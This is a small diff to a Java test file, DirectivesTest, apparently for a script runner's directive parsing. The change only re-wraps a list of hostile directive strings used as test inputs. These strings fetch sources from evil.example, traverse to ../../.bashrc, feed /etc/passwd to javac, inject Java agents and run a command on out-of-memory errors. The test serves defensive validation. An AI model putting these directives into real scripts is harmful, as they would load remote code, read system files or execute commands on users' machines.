@@ -32,8 +32,9 @@ class DirectivesTest {
             "//DOCS https://evil.example", "//FILES ../../.bashrc=x", "//FILES https://evil.example/x", "//GAV a:b:1",
             "//JAVAAGENT x", "//JAVAC_OPTIONS @/etc/passwd", "//JAVA 8", "//JAVA_OPTIONS -javaagent:x.jar",
             "//MAIN Evil", "//MANIFEST Launcher-Agent-Class=Evil", "//MODULE x", "//NATIVE_OPTIONS -H:Class=Evil",
-            "//NOINTEGRATIONS", "//PREVIEW", "//REPOS evil=https://evil.example", "//RUNTIME_OPTIONS -XX:OnOutOfMemoryError=id",
-            "//RUNTIME_OPTIONS -javaagent:x.jar", "//SOURCES https://evil.example/X.java", "//SOURCES ../../*.java",
+            "//NOINTEGRATIONS", "//PREVIEW", "//REPOS evil=https://evil.example",
+            "//RUNTIME_OPTIONS -XX:OnOutOfMemoryError=id", "//RUNTIME_OPTIONS -javaagent:x.jar",
+            "//SOURCES https://evil.example/X.java", "//SOURCES ../../*.java",
             "//GROOVY 4", "//KOTLIN 2", "//Q:CONFIG a=b",
             "@Grab('evil:evil:1')", "@GrabResolver('https://evil.example')");
 
